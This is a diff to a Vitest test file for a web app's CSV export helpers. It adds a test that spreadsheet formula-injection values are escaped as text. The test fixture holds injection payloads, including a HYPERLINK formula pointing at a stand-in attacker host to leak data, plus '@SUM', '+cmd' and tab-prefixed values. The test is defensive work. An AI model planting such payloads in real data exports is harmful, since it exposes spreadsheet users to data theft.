@@ -1,7 +1,8 @@
 import { createMemoryHistory, RouterProvider } from '@tanstack/react-router';
 import { fireEvent, screen, waitFor } from '@testing-library/react';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import { csvNumber, overviewFileName } from '../src/pages/overview-csv.ts';
+import { toCsv } from 'scenarist/client';
+import { csvNumber, overviewCsv, overviewFileName } from '../src/pages/overview-csv.ts';
 import { buildRouter } from '../src/router.tsx';
 import { kpi, scenario } from './fixtures.ts';
 import { renderWithApi } from './render-with-api.tsx';
@@ -66,13 +67,30 @@ describe("the overview's CSV (fix 15)", () => {
 
 describe('CSV helpers', () => {
   it('writes numbers without float noise, plainly, keeping small values', () => {
-    expect(csvNumber(389047.24200000014)).toBe('389047.242');
-    expect(csvNumber(0.1 + 0.2)).toBe('0.3');
-    expect(csvNumber(-1234.5)).toBe('-1234.5');
-    expect(csvNumber(-0.001)).toBe('-0.001');
-    expect(csvNumber(0.0042)).toBe('0.0042');
-    expect(csvNumber(null)).toBe('');
-    expect(csvNumber(Number.NaN)).toBe('');
+    expect(csvNumber(389047.24200000014)).toBe(389047.242);
+    expect(csvNumber(0.1 + 0.2)).toBe(0.3);
+    expect(csvNumber(-1234.5)).toBe(-1234.5);
+    expect(csvNumber(-0.001)).toBe(-0.001);
+    expect(csvNumber(0.0042)).toBe(0.0042);
+    expect(csvNumber(-0)).toBe(0);
+    expect(csvNumber(null)).toBeNull();
+    expect(csvNumber(Number.NaN)).toBeNull();
+  });
+
+  it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers (issue #41)', () => {
+    const trap = scenario({
+      ...greedy,
+      id: 't1',
+      tag: '=HYPERLINK("http://evil.example/?leak","click")',
+      input_data_id: '@SUM(1+1)',
+      algorithm: { name: '+cmd', parameters: [{ name: 'max_moves', type: 'integer', required: true, value: -3 }] },
+      data_parameters: { min_picks: '-2+3', zone: '\tTAB' },
+    });
+    const { header, body } = overviewCsv([trap], ['Travel Distance'], {});
+    const lines = toCsv(header, body).trim().split('\r\n');
+    expect(lines[1]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak"",""click"")","'+cmd","'@SUM(1+1)",2026-11-23T08:00:03.000Z,-0.004,-3,"'-2+3","'\tTAB"`,
+    );
   });
 
   it('names the file after the session, in characters a file system takes', () => {
